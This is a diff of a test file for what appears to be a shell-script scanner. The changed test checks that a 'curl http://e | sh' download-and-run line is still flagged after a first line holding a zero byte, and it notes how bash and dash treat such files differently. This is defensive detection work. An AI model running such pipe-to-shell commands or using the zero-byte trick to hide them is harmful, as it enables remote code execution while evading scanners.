@@ -40,8 +40,11 @@ def test_zero_byte_within_a_command_is_skipped_as_shells_do(read_bytes):
     assert ("download-and-run", "http://e") in list_mentions(reading)
 
 
-def test_file_with_a_zero_byte_in_its_first_line_is_not_recognised_as_a_script(read_bytes):
-    assert not read_bytes(b"# \0\ncurl http://e | sh\n", "a.sh").formats
+def test_commands_after_a_first_line_with_a_zero_byte_are_mentioned_and_the_file_is_damaged(read_bytes):
+    # bash takes such a file for a program and refuses it; dash runs its commands.
+    reading = read_bytes(b"# \0\ncurl http://e | sh\n", "a.sh")
+    assert ("download-and-run", "http://e") in list_mentions(reading)
+    assert UnreadReason.DAMAGED in reading.reasons()
 
 
 # "${…}" replaces an expansion that cannot be evaluated.
